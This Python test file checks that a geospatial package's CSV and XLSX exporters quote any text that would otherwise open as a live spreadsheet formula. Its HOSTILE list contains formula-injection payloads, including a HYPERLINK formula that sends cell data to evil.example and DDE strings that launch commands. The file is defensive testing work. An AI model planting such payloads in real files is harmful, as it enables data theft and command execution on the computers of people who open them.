"""Spreadsheet files never carry live formulas: text that starts like one opens as text."""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from layers.files import write_layer, write_tables_xlsx
from layers.spreadsheets import FORMULA_LEADS, safe_cell, safe_frame

#: Text an attacker puts in a file, each starting with a character that opens a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_lead_gets_a_quote_and_nothing_else_changes() -> None:
    assert {text[0] for text in HOSTILE} == set(FORMULA_LEADS)
    assert [safe_cell(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    for harmless in ("南宁市某化工有限公司", "C2611", "", " =1", "'=1", "2024-05-01", "a=b"):
        assert safe_cell(harmless) == harmless
    for number in (-5, -5.5, 0, 3.0, None, True):
        assert safe_cell(number) is number


def test_a_frame_keeps_its_numbers_and_quotes_its_formula_text() -> None:
    frame = pd.DataFrame(
        {
            "text": pd.Series(HOSTILE, dtype="str"),
            "mixed": [HOSTILE[0], 1, None, -2.5, "ok", "-x", "x"],
            "amount": [-1.0, -2.0, 0.0, 3.5, -4.0, 5.0, -6.0],
            "count": [-1, 2, 3, 4, 5, 6, 7],
            "=header": ["a"] * 7,
        }
    )
    out = safe_frame(frame)
    assert out["text"].tolist() == ["'" + t for t in HOSTILE]
    assert out["mixed"].tolist()[:2] == ["'" + HOSTILE[0], 1] and out["mixed"].iloc[3] == -2.5
    assert out["mixed"].tolist()[4:] == ["ok", "'-x", "x"] and out["mixed"].isna().iloc[2]
    pd.testing.assert_series_equal(out["amount"], frame["amount"])
    pd.testing.assert_series_equal(out["count"], frame["count"])
    assert list(out.columns) == ["text", "mixed", "amount", "count", "'=header"]
    assert frame["text"].iloc[0] == HOSTILE[0]  # the caller's frame is left alone


def _points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"name": HOSTILE, "amount": [-1500.0, -1.0, 0.0, 2.0, 3.0, 4.0, 5.0]},
        geometry=shapely.points([108.3 + i / 100 for i in range(7)], [-22.8] * 7),
        crs="EPSG:4326",
    )


def test_a_layer_as_csv_reads_back_as_text_with_its_numbers(tmp_path: Path) -> None:
    path = write_layer(_points(), tmp_path / "layer.csv", "csv", {"layer": "test"})
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + t for t in HOSTILE]
    assert all(r["name"].startswith("'") for r in rows)
    assert float(rows[0]["amount"]) == -1500.0 and rows[0]["amount"] == "-1500.0"
    assert float(rows[0]["lat"]) == -22.8  # negative coordinates stay plain numbers


def test_a_layer_as_xlsx_holds_text_cells_and_number_cells(tmp_path: Path) -> None:
    metadata = {"filters": {"violation_type": "=1+1"}, "=key": "@x"}
    path = write_layer(_points(), tmp_path / "layer.xlsx", "xlsx", metadata)
    book = openpyxl.load_workbook(path)
    sheet = book["data"]
    header = [c.value for c in sheet[1]]
    name, amount, lat = (header.index(h) for h in ("name", "amount", "lat"))
    rows = list(sheet.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed)
    assert [r[name].value for r in rows] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert {r[name].data_type for r in rows} == {"s"}  # a string, not a formula ("f")
    assert [r[amount].value for r in rows][:2] == [-1500, -1]
    assert {r[amount].data_type for r in rows} == {"n"} and rows[0][lat].value == -22.8
    for row in book["metadata"].iter_rows():
        assert all(c.data_type != "f" for c in row)
    assert book["metadata"]["A3"].value == "'=key"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_workbook_tables_hold_no_formulas(tmp_path: Path, hostile: str) -> None:
    table = pd.DataFrame({"单位名称": [hostile, "南宁某厂"], "预计发现": [-0.5, 2.0]})
    path = write_tables_xlsx({"plan": table}, tmp_path / "plan.xlsx")
    sheet = openpyxl.load_workbook(path)["plan"]
    assert sheet["A2"].value == "'" + hostile.replace("\r", "\n")  # XML reads CR as LF
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "南宁某厂"
    assert sheet["B2"].value == -0.5 and sheet["B2"].data_type == "n"
